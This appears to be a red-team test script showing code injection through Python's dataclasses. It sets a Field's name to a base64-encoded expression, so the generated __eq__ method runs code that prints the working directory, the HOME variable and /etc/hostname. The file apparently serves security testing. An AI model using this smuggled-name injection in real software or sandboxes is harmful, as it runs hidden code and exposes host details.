# family: red team, round 53a (a Field kept as another field's default, reached as a class attribute and renamed)
import base64
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = dataclasses.field(default=dataclasses.field(default=0))


@dataclasses.dataclass
class B:
    y: int = A.x


def main():
    A.x.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class C(B):
        pass

    print(C() == C())


main()
